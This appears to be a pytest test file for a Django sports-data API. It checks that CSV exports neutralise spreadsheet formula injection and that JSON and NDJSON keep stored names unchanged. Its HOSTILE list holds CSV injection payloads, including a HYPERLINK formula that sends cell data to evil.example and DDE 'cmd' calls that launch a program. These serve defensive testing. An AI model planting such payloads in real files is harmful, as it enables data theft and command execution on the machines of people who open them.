"""CSV exports are safe to open in a spreadsheet: no text cell starts like a formula.

OWASP's CSV Injection advice: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or
carriage return gets a ``'`` in front. Only text columns are touched; numbers stay numbers
and JSON stays JSON, and NDJSON and JSON carry the names exactly as stored.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.http import HttpResponseBase
from django.test import Client

from streams.api.export import ACTION_COLUMNS, CHUNK_ROWS, csv_encoder
from streams.models import Action, Fixture

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]
TEXT = ("type_name", "subtype_name", "team_name", "player_name")


def body(response: HttpResponseBase) -> str:
    """The whole (streamed) body, read as the ASGI server reads it."""
    assert response.streaming

    async def read() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])  # type: ignore[attr-defined]

    return async_to_sync(read)().decode()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def hostile_names(fixture: Fixture) -> dict[str, dict[str, Any]]:
    """Give the fixture's first actions hostile names, one per name column, and return the
    names each action now has, by action id."""
    actions = list(Action.objects.filter(fixture=fixture).order_by("last_position"))
    assert len(actions) > len(HOSTILE)
    given = {}
    for n, (action, name) in enumerate(zip(actions, HOSTILE, strict=False)):
        values = {column: name for column in TEXT}
        # A negative number in a numeric column is data, and JSON stays JSON.
        values |= {"type_id": -3 - n, "metadata": -7, "removed": False}
        Action.objects.filter(pk=action.pk).update(**values)
        given[str(action.action_id)] = values
    return given


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            if column in ("type_id", "metadata"):
                continue  # numbers: checked by the callers
            assert not cell.startswith(FORMULA_START), (column, cell)


def check_export(rows: list[dict[str, str]], given: dict[str, dict[str, Any]]) -> None:
    assert_no_formula(rows)
    by_id = {row["action_id"]: row for row in rows}
    for action_id, values in given.items():
        row = by_id[action_id]
        for column in TEXT:
            # The value is intact behind the one quote: strip it and it is what was stored.
            assert row[column] == "'" + values[column]
        assert row["type_id"] == str(values["type_id"])
        assert json.loads(row["metadata"]) == -7


@pytest.mark.django_db(transaction=True)
def test_a_fixture_csv_neutralises_formulas_and_keeps_numbers(
    api: Client, stored_match: Fixture
) -> None:
    given = hostile_names(stored_match)
    rows = cells(body(api.get(f"/api/fixtures/{stored_match.id}/actions/?format=csv")))
    check_export(rows, given)
    # Untouched names are as they were.
    ordinary = [row for row in rows if row["action_id"] not in given]
    assert ordinary
    for row in ordinary:
        action = Action.objects.get(fixture=stored_match, action_id=row["action_id"])
        assert [row[column] for column in TEXT] == [getattr(action, c) for c in TEXT]


@pytest.mark.django_db(transaction=True)
def test_the_bulk_csv_neutralises_formulas(api: Client, stored_match: Fixture) -> None:
    given = hostile_names(stored_match)
    day = stored_match.kickoff.date().isoformat()
    response = api.get(f"/api/actions/?kickoff_from={day}&kickoff_to={day}&format=csv")
    assert response.status_code == 200
    check_export(cells(body(response)), given)


@pytest.mark.django_db(transaction=True)
def test_ndjson_and_json_carry_the_names_as_stored(api: Client, stored_match: Fixture) -> None:
    given = hostile_names(stored_match)
    url = f"/api/fixtures/{stored_match.id}/actions/"
    lines = [json.loads(line) for line in body(api.get(f"{url}?format=ndjson")).splitlines()]
    page = api.get(f"{url}?page_size=1000").json()["results"]
    for rows in (lines, page):
        by_id = {row["action_id"]: row for row in rows}
        for action_id, values in given.items():
            assert {column: by_id[action_id][column] for column in values} == values


@pytest.mark.django_db(transaction=True)
def test_packet_csv_keeps_json_payloads_as_json(api: Client, stored_match: Fixture) -> None:
    rows = cells(body(api.get(f"/api/fixtures/{stored_match.id}/packets/?format=csv")))
    assert rows
    for row in rows:
        assert isinstance(json.loads(row["payload"]), dict)


def test_the_encoder_prefixes_only_text_cells_starting_like_a_formula() -> None:
    encode = csv_encoder(ACTION_COLUMNS, text={"type_name", "player_name"})
    row: list[Any] = [None] * len(ACTION_COLUMNS)
    index = ACTION_COLUMNS.index
    for name, value in [
        ("type_name", "-Goal"),
        ("player_name", ""),
        ("type_id", -3),
        ("timeline_sequence", -1.5),
        ("clock_time", "-00:01"),  # not in ``text`` here: left alone
    ]:
        row[index(name)] = value
    rows = [tuple(row)] * (CHUNK_ROWS + 1)
    parsed = list(csv.reader(io.StringIO(encode(rows).decode())))
    assert len(parsed) == len(rows)
    cell = dict(zip(ACTION_COLUMNS, parsed[0], strict=True))
    assert cell["type_name"] == "'-Goal"
    assert cell["player_name"] == ""
    assert cell["type_id"] == "-3"
    assert cell["timeline_sequence"] == "-1.5"
    assert cell["clock_time"] == "-00:01"
